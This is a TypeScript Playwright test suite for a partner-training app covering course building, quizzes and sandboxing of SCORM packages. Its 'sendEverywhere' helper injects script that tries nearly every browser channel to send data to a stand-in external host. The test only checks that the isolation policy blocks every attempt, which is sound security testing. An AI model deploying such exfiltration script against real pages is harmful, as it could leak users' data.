import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Frame, type Page, test } from '@playwright/test';
import { bearer, registered, SECRET, skipPartnerSetup, uniqueEmail } from './accounts.ts';
import { linkIn } from './mailbox.ts';
import { demo, enterAs, enterBy, expectAccessible, fromSomewhere } from './people.ts';

const phone = { width: 390, height: 844 };

async function post<T = { id: string }>(page: Page, token: string, url: string, data: unknown): Promise<T> {
  const answer = await page.request.post(`/api${url}`, { headers: bearer(token), data });
  expect(answer.ok(), await answer.text()).toBe(true);
  return (await answer.json()) as T;
}

const publish = async (page: Page, token: string, id: string, lessons: unknown[]) => {
  const definition = { sections: [{ id: 'start', title: 'Start here', lessons }] };
  const saved = await page.request.patch(`/api/courses/${id}`, {
    headers: bearer(token),
    data: { definition, shared_with: 'everyone' },
  });
  expect(saved.ok(), await saved.text()).toBe(true);
  await post(page, token, `/courses/${id}/publish`, {});
};

test('a partner takes a course with a quiz on a phone, resumes it and completes it', async ({ page, browser }) => {
  const title = `Selling safely ${Date.now()}`;
  const token = await enterAs(page, demo.company);
  await page.goto('/training/create');
  await page.getByLabel('Title').fill(title);
  await page.getByRole('button', { name: 'Create course' }).click();

  // The builder of the new course opens.
  await expect(page).toHaveURL(/\/training\/edit\//);
  const id = page.url().split('/').at(-1)!;
  await page.getByRole('button', { name: 'Add lesson' }).click();
  await page.getByRole('menuitem', { name: 'Article' }).click();
  await page.getByLabel('Title', { exact: true }).fill('Why safety sells');
  await page.getByRole('textbox', { name: 'Text' }).fill('Safe drivers cost less.');
  await expect(page.getByText('Saved')).toBeVisible();
  await expect(page.getByText('1 thing to complete')).toBeHidden();

  const question = await post(page, token, '/quiz_questions', {
    prompt: 'What do safe drivers do?',
    pool: title.slice(0, 80),
    content: { kind: 'single', options: ['Cost less', 'Cost more'], correct: [0] },
  });
  const quiz = {
    question_ids: [question.id],
    pools: [],
    shuffles_questions: true,
    shuffles_options: true,
    pass_percent: 80,
    most_attempts: 3,
    cooldown_hours: 0,
    feedback: 'end',
  };
  await publish(page, token, id, [
    { id: 'why', kind: 'article', title: 'Why safety sells', is_required: true, body: 'Safe drivers cost less.' },
    { id: 'check', kind: 'quiz', title: 'Check what you know', is_required: true, quiz },
  ]);

  const context = await browser.newContext({ viewport: phone, hasTouch: true });
  const learner = await context.newPage();
  await enterAs(learner, demo.partner);
  await learner.goto('/partner-training');
  const card = learner.getByRole('listitem').filter({ hasText: title });
  await card.getByRole('button', { name: 'Start course' }).click();
  await expect(learner.getByRole('heading', { name: 'Why safety sells' })).toBeVisible();
  await expectAccessible(learner);
  expect(await learner.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(phone.width);
  await learner.getByRole('button', { name: 'Complete and continue' }).click();
  await learner.getByRole('button', { name: 'Start quiz' }).click();
  const saved = learner.waitForResponse((answer) => answer.url().endsWith('/answers') && answer.status() === 204);
  await learner.getByLabel('Cost less').check();
  await saved;

  // A learner who leaves in the middle of the quiz continues there with the given answers.
  await learner.goto('/partner-training');
  await expect(card.getByText('50% completed')).toBeVisible();
  await card.getByRole('button', { name: 'Continue' }).click();
  await expect(learner.getByRole('heading', { name: 'Check what you know' })).toBeVisible();
  await learner.getByRole('button', { name: 'Continue quiz' }).click();
  await expect(learner.getByLabel('Cost less')).toBeChecked();
  await expectAccessible(learner);
  await learner.getByRole('button', { name: 'Submit answers' }).click();
  await expect(learner.getByText('Passed')).toBeVisible();
  await learner.getByRole('button', { name: 'Next' }).click();
  await expect(learner.getByRole('heading', { name: 'Course completed' })).toBeVisible();
  await context.close();

  await page.goto(`/training/course-analytics/${id}`);
  await expect(page.getByRole('row', { name: /^Check what you know/ })).toContainText('1');
});

async function publishPackage(page: Page, token: string, title: string, file: string): Promise<void> {
  const { id } = await post(page, token, '/courses', { title });
  const buffer = readFileSync(`fixtures/scorm/${file}`);
  const sent = await page.request.post(`/api/courses/${id}/files/scorm`, {
    headers: bearer(token),
    multipart: { file: { name: file, mimeType: 'application/zip', buffer } },
  });
  expect(sent.ok(), await sent.text()).toBe(true);
  const { id: file_id } = (await sent.json()) as { id: string };
  await publish(page, token, id, [{ id: 'golf', kind: 'scorm', title: 'Golf', is_required: true, file_id }]);
}

/** Opens the package of a course. @returns the frame of its pages */
async function openPackage(page: Page, title: string): Promise<Frame> {
  await page.goto('/partner-training');
  await page.getByRole('listitem').filter({ hasText: title }).getByRole('button', { name: 'Start course' }).click();
  await page.getByRole('button', { name: /^Start: / }).click();
  const found = () => page.frames().find((frame) => frame.url().includes('/scorm/') && !frame.url().includes('/~/'));
  // A frame has its address before its page, and only the page has its origin and what that stores.
  const isOpen = async () => {
    const frame = found();
    const state = await frame?.evaluate(() => `${location.origin} ${document.readyState}`).catch(() => null);
    return frame !== undefined && state === `${new URL(frame.url()).origin} complete`;
  };
  await expect.poll(isOpen).toBe(true);
  return found()!;
}

/** A learner of a new company that has one package. */
async function learnerElsewhere(page: Page, title: string): Promise<string> {
  const { token } = await registered(page.request);
  await post(page, token, '/onboarding/skip', {});
  const { id: partner_id } = await post(page, token, '/partners', { name: 'Partner' });
  await publishPackage(page, token, title, 'singlesco_scorm12.zip');
  const email = uniqueEmail('partner.example');
  await post(page, token, '/invitations', { email, role: 'partner_admin', partner_id });
  const link = new URL(await linkIn(email));
  const accepted = await page.request.post('/api/public/invitations/accept', {
    headers: fromSomewhere(),
    data: { token: link.hash.slice('#token='.length), password: SECRET, full_name: 'Ann Partner' },
  });
  expect(accepted.ok(), await accepted.text()).toBe(true);
  const learner = ((await accepted.json()) as { token: string }).token;
  await skipPartnerSetup(page.request, learner);
  return learner;
}

const stored = () => ({ mark: localStorage.getItem('mark'), cookies: document.cookie });

/** Tries every way in which a page can send data to a server. */
async function sendEverywhere(elsewhere: string): Promise<void> {
  const to = (way: string) => `${elsewhere}/${way}?name=learner`;
  const add = (html: string) => document.body.insertAdjacentHTML('beforeend', html);
  const attempt = (work: () => unknown) => {
    try {
      const result = work();
      if (result instanceof Promise) result.catch(() => {});
    } catch {}
  };
  new Image().src = to('img');
  attempt(() => fetch(to('fetch'), { mode: 'no-cors' }));
  attempt(() => navigator.sendBeacon(to('beacon'), 'x'));
  attempt(() => new WebSocket(to('socket').replace('http', 'ws')));
  attempt(() => new EventSource(to('events')));
  attempt(() => new Worker(to('worker')));
  attempt(() => navigator.serviceWorker?.register('x.js'));
  attempt(() => window.open(to('window')));
  attempt(() => {
    window.top!.location.href = to('top');
  });
  attempt(() => {
    window.parent.location.href = to('parent');
  });
  add(`<iframe src="${to('frame')}"></iframe><video src="${to('video')}"></video><object data="${to('object')}"></object>
    <link rel="stylesheet" href="${to('style')}"><link rel="prefetch" href="${to('prefetch')}"><link rel="preload" as="image" href="${to('preload')}">
    <div style="background: url(${to('background')})">x</div><form id="out" action="${to('form')}" target="_blank"></form>
    <a id="away" href="${to('link')}" target="_blank" ping="${to('ping')}">x</a><a id="load" href="${to('download')}" download="x">x</a>`);
  (document.getElementById('out') as HTMLFormElement).submit();
  document.getElementById('away')!.click();
  document.getElementById('load')!.click();
  // An error response is a page of the same origin, which must have a policy as well.
  for (const address of [`/scorm/${'x'.repeat(70_000)}`, '/scorm/%', '/scorm/none', '/api/session']) {
    const frame = document.createElement('iframe');
    frame.src = address;
    frame.onload = () =>
      attempt(() => {
        const page = frame.contentDocument!;
        page.body.append(Object.assign(page.createElement('img'), { src: to('error-page') }));
      });
    document.body.append(frame);
  }
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  location.href = to('location');
}

test('a SCORM package runs apart from the product and other companies, and is completed with its score', {
  tag: '@all',
}, async ({ page }) => {
  page.on('dialog', (dialog) => void dialog.accept());
  const title = `Golf ${Date.now()}`;
  const token = await enterAs(page, demo.company);
  await publishPackage(page, token, title, 'RuntimeBasicCalls_SCORM20043rdEdition.zip');

  const neighbor = await test.step('another company’s package keeps something, and can send nothing away', async () => {
    const hits: string[] = [];
    const elsewhere = createServer((request, response) => {
      hits.push(request.url!);
      response.end('x');
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const { port } = elsewhere.address() as AddressInfo;
    await enterBy(page, await learnerElsewhere(page, 'Neighbor'));
    const content = await openPackage(page, 'Neighbor');
    const { origin } = new URL(content.url());
    await content.evaluate(() => {
      localStorage.setItem('mark', 'neighbor');
      const set = (cookie: string) => Object.assign(document, { cookie: `${cookie}; path=/; samesite=none; secure` });
      set('mark=neighbor');
      set('wide=neighbor; domain=localhost');
    });
    expect(await content.evaluate(stored)).toEqual({ mark: 'neighbor', cookies: 'mark=neighbor' });
    // The server is reachable, so only the policy blocks the package.
    expect((await page.request.get(`http://127.0.0.1:${port}/reached`)).ok()).toBe(true);
    // The last attempt leaves the page.
    await content.evaluate(sendEverywhere, `http://tandem.intern:${port}`).catch(() => {});
    await page.waitForTimeout(1_000);
    expect(hits).toEqual(['/reached']);
    expect(page.context().pages()).toHaveLength(1);
    expect(new URL(page.url()).port).toBe(new URL(origin).port);
    elsewhere.close();
    return origin;
  });

  await enterAs(page, demo.partner);
  const first = await openPackage(page, title);
  const content = page.frameLocator('iframe[title="Golf Explained"]').frameLocator('iframe');
  // The package runs on an origin of its company, reads nothing that the other one stored, and cannot read this page.
  const { origin, hostname } = new URL(first.url());
  expect(hostname).toMatch(/^[0-9a-f]{32}\.localhost$/);
  expect(origin).not.toBe(neighbor);
  expect(await first.evaluate(stored)).toEqual({ mark: null, cookies: '' });
  const reached = await first.evaluate(() => {
    try {
      return window.top!.document.title;
    } catch {
      return null;
    }
  });
  expect(reached).toBeNull();
  for (let at = 0; at < 14; at++) await content.getByRole('button', { name: 'Next ->' }).click();
  const findQuiz = () => page.frames().find((frame) => frame.url().includes('assessmenttemplate'));
  await expect.poll(() => findQuiz() !== undefined).toBe(true);
  const frame = findQuiz()!;
  await frame.waitForSelector('#frmTest');
  await frame.evaluate(() => {
    const {
      test: quiz,
      document: page,
      SubmitAnswers,
    } = window as never as {
      test: { Questions: { Id: string; Type: string; Answers: unknown[]; CorrectAnswer: unknown }[] };
      document: Document;
      SubmitAnswers: () => void;
    };
    for (const { Id, Type, Answers, CorrectAnswer } of quiz.Questions) {
      const at = (name: string) => page.getElementById(`question_${Id}_${name}`) as HTMLInputElement;
      if (Type === 'choice') at(String(Answers.indexOf(CorrectAnswer))).checked = true;
      else if (Type === 'true-false') at(CorrectAnswer ? 'True' : 'False').checked = true;
      else at('Text').value = String(CorrectAnswer);
    }
    SubmitAnswers();
  });
  await expect(page.getByText('Completed · 100%')).toBeVisible();
  await page.goto('/partner-training');
  await expect(page.getByRole('listitem').filter({ hasText: title })).toContainText('Score 100%');
});
